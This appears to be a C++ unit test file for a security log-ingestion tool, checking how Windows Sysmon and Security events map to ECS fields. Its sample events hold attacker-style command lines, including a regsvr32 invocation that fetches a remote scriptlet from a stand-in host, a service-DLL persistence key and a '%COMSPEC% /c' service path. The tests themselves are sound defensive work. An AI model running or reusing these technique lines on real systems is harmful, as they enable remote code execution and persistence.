// Windows → ECS mapping golden tests: one event per mapped ID family, the
// ECS document it must produce (through the same reader the CLI uses).
#include "ingest/ecs_mapping.h"

#include <gtest/gtest.h>

#include "ingest/windows_event.h"

using namespace vigil;

namespace {

using DataFields = std::vector<std::pair<std::string, std::string>>;

// Builds the event's document and reads back `field` rendered as JSON ("" when absent).
struct Mapped {
  std::string provider, id;
  DataFields data;
  std::string get(const std::string& name) {
    FieldRegistry fields;
    FieldId fid = fields.intern(name);
    WindowsEvent e;
    e.provider = provider;
    e.event_id = id;
    for (const auto& [k, v] : data) e.event_data.push_back({k, v});
    Arena arena;
    DocBuilder doc(arena);
    build_windows_document(e, doc);
    Event event;
    std::vector<PendingField> scratch;
    fill_event_fields(doc.members(), fields, arena, event, scratch);
    std::string out;
    if (!event.get(fid).is_null()) append_json(out, event.get(fid));
    return out;
  }
};

Mapped map(std::string_view provider, std::string_view id, const DataFields& data) {
  return Mapped{std::string(provider), std::string(id), data};
}

constexpr std::string_view kSysmon = "Microsoft-Windows-Sysmon";

}  // namespace

TEST(EcsMapping, Sysmon1ProcessCreate) {
  auto m = map(kSysmon, "1",
               {{"ProcessGuid", "{7CF65FC7-1111}"}, {"ProcessId", "4242"}, {"Image", "C:\\Windows\\System32\\regsvr32.exe"},
                {"CommandLine", "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll"}, {"User", "CORP\\alice"},
                {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}, {"ParentProcessId", "4100"},
                {"Hashes", "SHA1=AB,MD5=CD,SHA256=EF,IMPHASH=00"}});
  EXPECT_EQ(m.get("event.category"), "[\"process\"]");
  EXPECT_EQ(m.get("event.type"), "[\"start\"]");
  EXPECT_EQ(m.get("process.pid"), "4242");
  EXPECT_EQ(m.get("process.name"), "\"regsvr32.exe\"");
  EXPECT_EQ(m.get("process.entity_id"), "\"{7CF65FC7-1111}\"");
  EXPECT_EQ(m.get("process.args"), R"(["regsvr32","/s","/n","/u","/i:http://x/y.sct","scrobj.dll"])");
  EXPECT_EQ(m.get("process.parent.name"), "\"cmd.exe\"");
  EXPECT_EQ(m.get("process.parent.pid"), "4100");
  EXPECT_EQ(m.get("user.domain"), "\"CORP\"");
  EXPECT_EQ(m.get("user.name"), "\"alice\"");
  EXPECT_EQ(m.get("process.hash.sha256"), "\"ef\"");
  EXPECT_EQ(m.get("process.hash.md5"), "\"cd\"");
}

TEST(EcsMapping, Sysmon3NetworkConnection) {
  auto m = map(kSysmon, "3",
               {{"Image", "C:\\Windows\\System32\\rundll32.exe"}, {"Protocol", "tcp"}, {"Initiated", "true"},
                {"SourceIp", "10.0.4.17"}, {"SourcePort", "52290"}, {"DestinationIp", "10.0.5.20"},
                {"DestinationPort", "8443"}});
  EXPECT_EQ(m.get("event.category"), "[\"network\"]");
  EXPECT_EQ(m.get("network.transport"), "\"tcp\"");
  EXPECT_EQ(m.get("network.direction"), "\"egress\"");
  EXPECT_EQ(m.get("destination.ip"), "\"10.0.5.20\"");
  EXPECT_EQ(m.get("destination.port"), "8443");
  EXPECT_EQ(m.get("source.port"), "52290");
}

TEST(EcsMapping, Sysmon7ImageLoadWithSignature) {
  auto m = map(kSysmon, "7",
               {{"Image", "C:\\Windows\\System32\\netsh.exe"}, {"ImageLoaded", "C:\\Users\\Public\\nethelp.dll"},
                {"Signed", "false"}, {"Signature", "-"}, {"SignatureStatus", "Unavailable"}});
  EXPECT_EQ(m.get("event.category"), "[\"library\"]");
  EXPECT_EQ(m.get("dll.path"), R"("C:\\Users\\Public\\nethelp.dll")");
  EXPECT_EQ(m.get("dll.name"), "\"nethelp.dll\"");
  EXPECT_EQ(m.get("dll.code_signature.exists"), "false");
  EXPECT_EQ(m.get("dll.code_signature.status"), "\"Unavailable\"");
  EXPECT_EQ(m.get("dll.code_signature.trusted"), "false");
  EXPECT_EQ(m.get("process.name"), "\"netsh.exe\"");
}

TEST(EcsMapping, Sysmon11And13FileAndRegistry) {
  auto f = map(kSysmon, "11", {{"TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\Payload.DLL"}});
  EXPECT_EQ(f.get("file.name"), "\"Payload.DLL\"");
  EXPECT_EQ(f.get("file.extension"), "\"dll\"");
  EXPECT_EQ(f.get("file.directory"), R"("C:\\Users\\alice\\AppData\\Local\\Temp")");
  auto r = map(kSysmon, "13",
               {{"TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\evil\\Parameters\\ServiceDll"},
                {"Details", "DWORD (0x00000010)"}});
  EXPECT_EQ(r.get("registry.hive"), "\"HKLM\"");
  EXPECT_EQ(r.get("registry.key"), R"("System\\CurrentControlSet\\Services\\evil\\Parameters")");
  EXPECT_EQ(r.get("registry.value"), "\"ServiceDll\"");
  EXPECT_EQ(r.get("registry.data.type"), "\"REG_DWORD\"");
  EXPECT_EQ(r.get("registry.data.strings"), "[\"16\"]");
  auto s = map(kSysmon, "13", {{"TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Netsh\\x"}, {"Details", "C:\\x.dll"}});
  EXPECT_EQ(s.get("registry.data.strings"), R"(["C:\\x.dll"])");
  EXPECT_EQ(s.get("registry.data.type"), "\"REG_SZ\"");
}

TEST(EcsMapping, SecurityEvents) {
  auto p = map("Microsoft-Windows-Security-Auditing", "4688",
               {{"NewProcessId", "0x2a58"}, {"NewProcessName", "C:\\Windows\\System32\\reg.exe"},
                {"ProcessId", "0x2924"}, {"CommandLine", "reg add \"HKLM\\x y\" /v a"},
                {"ParentProcessName", "C:\\Windows\\System32\\cmd.exe"}, {"SubjectUserName", "admmig"}});
  EXPECT_EQ(p.get("process.pid"), "10840");
  EXPECT_EQ(p.get("process.parent.pid"), "10532");
  EXPECT_EQ(p.get("process.args"), R"(["reg","add","HKLM\\x y","/v","a"])");
  EXPECT_EQ(p.get("user.name"), "\"admmig\"");
  auto r = map("Microsoft-Windows-Security-Auditing", "4657",
               {{"ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\x"}, {"ObjectValueName", "ImagePath"}});
  EXPECT_EQ(r.get("registry.path"), R"("HKLM\\SYSTEM\\ControlSet001\\Services\\x\\ImagePath")");
  auto n = map("Microsoft-Windows-Security-Auditing", "5156",
               {{"Protocol", "6"}, {"Direction", "%%14593"}, {"DestAddress", "10.1.1.1"}, {"DestPort", "445"}});
  EXPECT_EQ(n.get("network.transport"), "\"tcp\"");
  EXPECT_EQ(n.get("network.direction"), "\"egress\"");
  EXPECT_EQ(n.get("destination.port"), "445");
  auto s = map("Service Control Manager", "7045", {{"ServiceName", "BTOBTO"}, {"ImagePath", "%COMSPEC% /Q /c x"}});
  EXPECT_EQ(s.get("service.name"), "\"BTOBTO\"");
  EXPECT_EQ(s.get("event.category"), "[\"configuration\"]");
}

TEST(EcsMapping, UnmappedEventsGetNothing) {
  // Unknown IDs keep winlog.* and event.code, but get no ECS classification or fields.
  auto m = map(kSysmon, "255", {{"Image", "x"}});
  EXPECT_EQ(m.get("event.code"), "\"255\"");
  EXPECT_EQ(m.get("winlog.event_data.Image"), "\"x\"");
  EXPECT_EQ(m.get("event.category"), "");
  EXPECT_EQ(m.get("process.executable"), "");
}

TEST(EcsMapping, CommandLineSplittingFollowsWindowsRules) {
  EXPECT_EQ(split_command_line(R"("C:\Program Files\a.exe" -x "a b" c\\d "e\"f" g\\\"h)"),
            (std::vector<std::string>{R"(C:\Program Files\a.exe)", "-x", "a b", R"(c\\d)", "e\"f", R"(g\"h)"}));
  EXPECT_EQ(split_command_line("  a\t b  "), (std::vector<std::string>{"a", "b"}));
  EXPECT_EQ(split_command_line(""), (std::vector<std::string>{}));
  EXPECT_EQ(split_command_line(R"("unterminated quote)"), (std::vector<std::string>{"unterminated quote"}));
}
